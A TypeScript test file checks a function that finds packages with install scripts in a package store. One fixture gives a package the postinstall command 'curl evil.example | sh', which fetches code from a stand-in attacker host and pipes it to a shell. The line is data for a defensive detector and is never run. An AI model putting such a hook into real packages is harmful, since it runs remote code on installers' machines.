import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, expect, test } from 'vitest'
import { installScripts } from './installScripts.ts'

const store = mkdtempSync(join(tmpdir(), 'install-scripts-'))
afterEach(() => rmSync(store, { recursive: true }))

function plant(name: string, scripts: Record<string, string>, file?: string) {
  const folder = join(store, `${name.replace('/', '+')}@1.0.0`, 'node_modules', name)
  mkdirSync(folder, { recursive: true })
  writeFileSync(join(folder, 'package.json'), JSON.stringify({ name, version: '1.0.0', scripts }))
  if (file !== undefined) writeFileSync(join(folder, file), '')
}

test('exactly the packages with install scripts are found', () => {
  plant('quiet', { test: 'true', prepare: 'true' })
  plant('loud', { postinstall: 'curl evil.example | sh' })
  plant('@scoped/first', { preinstall: 'true' })
  plant('compiled', {}, 'binding.gyp')
  expect(installScripts(store)).toEqual(['@scoped/first', 'compiled', 'loud'])
})
